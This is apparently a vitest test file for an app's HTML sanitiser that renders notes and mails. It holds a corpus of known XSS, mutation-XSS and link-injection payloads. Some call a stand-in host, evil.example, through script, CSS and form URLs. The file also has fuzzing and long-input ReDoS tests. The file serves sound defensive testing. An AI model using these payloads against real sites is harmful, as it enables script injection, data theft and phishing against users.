import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createSanitiser } from '../../../renderer/ui/lib/sanitise.ts';
import { linkHref } from '../../../renderer/ui/lib/links.ts';
import { plainText } from '../../../renderer/ui/lib/plain-text.ts';

const sanitise = createSanitiser(window);

function shown(markup: string): string {
  const holder = document.createElement('div');
  const safe = sanitise(markup);
  if (safe) holder.append(safe);
  return holder.innerHTML;
}

const TAGS =
  /^(?:A|B|BLOCKQUOTE|BR|CODE|DIV|EM|HR|I|LI|OL|P|PRE|S|SPAN|STRONG|TABLE|TBODY|TD|THEAD|TR|U|UL)$/;

/** What of a fragment is not on the list of what may be shown. */
function strayOf(markup: string): string[] {
  const stray: string[] = [];
  for (const element of sanitise(markup)?.querySelectorAll('*') ?? []) {
    if (!TAGS.test(element.tagName)) stray.push(element.tagName);
    for (const { name, value } of element.attributes) {
      const isLink = element.tagName === 'A';
      const isRight =
        isLink &&
        ((name === 'href' && linkHref(value) === value) ||
          (name === 'title' && value === element.getAttribute('href')) ||
          (name === 'target' && value === '_blank') ||
          (name === 'rel' && value === 'noopener noreferrer'));
      if (!isRight) stray.push(`${element.tagName}@${name}=${value}`);
    }
  }
  return stray;
}

/** Ways by which markup has become code, taken from what was found in sanitisers and browsers over the years. */
const CORPUS = [
  '<script>alert(1)</script>',
  '<p>a</p><script src=https://evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif" width=1 height=1>',
  '<image href=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=0 y=9>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x"></use></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "https://evil.example/x.css"; *{background:url(https://evil.example)}</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">x</p>',
  '<div class="modal" id="main" name="body">x</div>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/settings">x</a>',
  '<a href="#/settings">x</a>',
  '<a href="https://user:pass@evil.example">x</a>',
  '<a href="https://a.example" onclick=alert(1) target=_self rel=opener ping=https://evil.example download>x</a>',
  '<a href="mailto:a@b.example?attach=/etc/passwd">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<applet code=x></applet><frameset><frame src="javascript:alert(1)"></frameset>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<input onfocus=alert(1) autofocus><textarea autofocus onfocus=alert(1)></textarea><select autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)><html onclick=alert(1)>',
  '<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example"><base href=https://evil.example/>',
  '<template><img src=x onerror=alert(1)></template>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<p><!--[if IE]><script>alert(1)</script><![endif]--></p><?xml version="1.0"?><![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p>&lt;img src=x onerror=alert(1)&gt;</p>',
  '<b <script>alert(1)</script>0',
  '<<p>img src=x onerror=alert(1)>',
  '<p/onmouseover="alert(1)">x',
  '<img """><script>alert(1)</script>">',
  '<ul><li popover popovertarget=x>x</li></ul><dialog open>x</dialog>',
  '<p slot=x is=x part=x tabindex=1 accesskey=x contenteditable draggable=true hidden lang=x dir=rtl>x</p>',
  `${'<div>'.repeat(600)}<img src=x onerror=alert(1)>${'</div>'.repeat(600)}`,
];

describe('the markup of notes and mails', () => {
  it('is shown as it was meant, without what it does not need', () => {
    expect(shown('<h1>Visit</h1><p class="x">Wants <b>40</b><img src=x> trucks</p><ul><li>a</li></ul>')).toBe(
      '<p><b>Visit</b></p><p>Wants <b>40</b> trucks</p><ul><li>a</li></ul>',
    );
    expect(shown('<table><tr><th>Model</th><td>T5</td></tr></table>')).toBe(
      '<table><tbody><tr><td><b>Model</b></td><td>T5</td></tr></tbody></table>',
    );
  });

  it('leads out by the app’s own rule, and says where', () => {
    expect(shown('<a href="https://widgetz.example/a" class=x>here</a>')).toBe(
      '<a href="https://widgetz.example/a" target="_blank" rel="noopener noreferrer" title="https://widgetz.example/a">here</a>',
    );
    expect(shown('<a href="mailto:jane@widgetz.example?body=x">mail</a>')).toContain(
      'href="mailto:jane@widgetz.example"',
    );
    expect(shown('<a href="tel:+44 7700 900123">call</a>')).toContain('href="tel:+447700900123"');
    expect(shown('<a href="http://widgetz.example">here <b>it is</b></a>')).toBe('here <b>it is</b>');
  });

  it.each(CORPUS)('does nothing: %s', (markup) => {
    expect(strayOf(markup)).toEqual([]);
    expect(shown(markup)).not.toMatch(/evil\.example|<script|javascript:|on\w+=(?!alert\(1\)&gt;)/i);
  });

  it('is safe however its parts are put together', () => {
    const parts = fc.array(
      fc.oneof(
        fc.constantFrom(...CORPUS),
        fc.constantFrom('<p>', '</p>', '<table>', '</style>', '-->', '"', "'", '`', '<', '&lt;', '\u0000'),
      ),
      { minLength: 1, maxLength: 4 },
    );
    fc.assert(
      fc.property(parts, (chosen) => {
        expect(strayOf(chosen.join(''))).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });

  it('is nothing where nothing is left to be read', () => {
    expect(sanitise('<p><img src=x></p> ')).toBeNull();
    expect(sanitise('')).toBeNull();
  });
});

describe('the words of a text without end', () => {
  it.each([
    ['blanks', `<b>x</b>${' '.repeat(1_000_000)}`],
    ['brackets', `<b>x</b>${'<'.repeat(1_000_000)}`],
    ['tags that never end', '<p '.repeat(300_000)],
    ['signs that are none', '&'.repeat(1_000_000) + '<b>'],
    ['lines', '<b>\n</b>'.repeat(100_000)],
  ])('are there at once: %s', (_, text) => {
    // Backtracking would take minutes, not longer than the test may.
    expect(plainText(text).length).toBeLessThanOrEqual(text.length);
  });
});
